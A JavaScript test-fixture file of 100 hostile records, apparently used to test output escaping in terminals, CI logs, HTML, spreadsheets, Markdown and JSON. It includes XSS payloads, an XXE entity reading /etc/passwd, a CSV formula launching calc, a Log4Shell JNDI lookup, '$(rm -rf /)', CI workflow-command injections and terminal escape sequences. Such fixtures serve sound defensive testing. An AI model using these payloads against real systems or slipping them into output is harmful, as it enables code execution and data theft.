// SPDX-License-Identifier: Apache-2.0
// 100 records that attack a terminal, a build server, HTML, XML, spreadsheets, Markdown, SARIF, JSON, and UTF-8.

const TEXTS = [
  // Terminals.
  '\x1b[2J\x1b[H', '\x1b[31mred\x1b[0m', '\x1b]0;title\x07', '\x1b]52;c;cm0gLXJmIC8=\x07',
  '\x1b]8;;http://example.invalid/\x1b\\link\x1b]8;;\x1b\\', '\x9b31m', '\x9d52;c;AAAA\x9c', 'pass\rFAIL', 'a\bb\x7f',
  '\v\f\x0e\x0f', '\tTAB', 'a\r\nb', '\n\n\nc', 'line\u2028sep\u2029para', '\x85next line',
  // Direction and invisibles.
  '\u202egnp.exe', '\u2066\u2067x\u2068\u2069', '\u200e\u200f\u061cx', '\u200b\u200c\u200d\ufeffx', '\u00adsoft\u034f',
  '\u{e0041}\u{e007f}x', '\u115f\u1160\u3164x', '\u0301\u0301\u0301 bare marks',
  // Workflow commands.
  '::error::pwned', '::error file=x,line=1::pwned', '\n::set-output name=x::y', '\n::add-mask::a',
  '\r\n::stop-commands::end', '\n##[error]pwned', '##[set-env name=PATH]x', '##vso[task.complete result=Succeeded;]',
  '::warning title=a,file=b::c%0A::error::d', '%0A::error::x', '%25%0D%0A', 'a,b:c;d=e', ' ::error::blank before',
  '\v::error::x', '\u2028::error::x', '::endgroup::',
  // HTML and XML.
  '<script>alert(1)</script>', '</script><script>alert(1)</script>', '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>', "' onmouseover='alert(1)", '--><b>', ']]>', '<![CDATA[x]]>', '&lt;b&gt;&amp;', '&#x1b;',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>', '\ufffe\uffff\ufdd0x', 'javascript:alert(1)',
  // Spreadsheets.
  '=HYPERLINK("http://example.invalid/","x")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1',
  'a,b\n"c"', '\uff1d1+1', ';=1', "'=1",
  // Markdown.
  '` x', '``` code', 'a`b``c```d', '| a | b |', 'a|b\n|---|---|', '\\| \\` \\\\', '![x](http://example.invalid/x.png)',
  '[x](javascript:alert(1))', '\n# heading\n\n* item', '<http://example.invalid/>', '@everyone #1 GH-1', '***bold***',
  // SARIF and format strings.
  '{0}', '{{0}} {name}', '[x](1)', '\\[x](y)', '%s%n%d', '${jndi:ldap://x}', '$(rm -rf /)',
  // JSON and quoting.
  '"', '\\u0041', '\\x1b', '","x":"', '{"a":1}', '\ud800x', 'C:\\x\\y',
  // No part of a record between NULs: only in JSON.
  'a\0b\0',
  // Long ones.
  'x'.repeat(100000), '`|'.repeat(3000), 'e' + '\u0301'.repeat(3000),
];

const BYTES = ['80', 'fffe', 'c0af', 'eda080', 'f09fa4', 'f4908080', '636166e9', 'c328', '9b33316d'].map((hex) =>
  Buffer.from(hex, 'hex'),
);

// Two tokens before: with --max-length 4 the excerpt of RC401 begins with the text itself.
const BEFORE = 'z z ';
// Words that give a finding whatever stands beside them.
const UNKNOWN = ' \u{1f917}x \u{1f917}y z z z';

/** Texts for JSON; a lone surrogate is among them. */
export const hostileTexts = () => TEXTS.map((text) => text + UNKNOWN);

/** 100 records as bytes, none of them with NUL; some are no UTF-8. */
export function hostileRecords() {
  const texts = TEXTS.filter((text) => !text.includes('\0')).map((text) => Buffer.from(text));
  const records = [...texts, ...BYTES].map((bytes) => Buffer.concat([Buffer.from(BEFORE), bytes, Buffer.from(UNKNOWN)]));
  if (records.length !== 100) throw new Error(`${records.length} records`);
  return records;
}

/** Names of files: short texts without slash and NUL, each once. */
export function hostileNames() {
  const short = TEXTS.filter((text) => text.length < 60 && !/[/\0]/.test(text) && text.trim() !== '');
  return [...short.map((text) => Buffer.from(text)), ...BYTES];
}
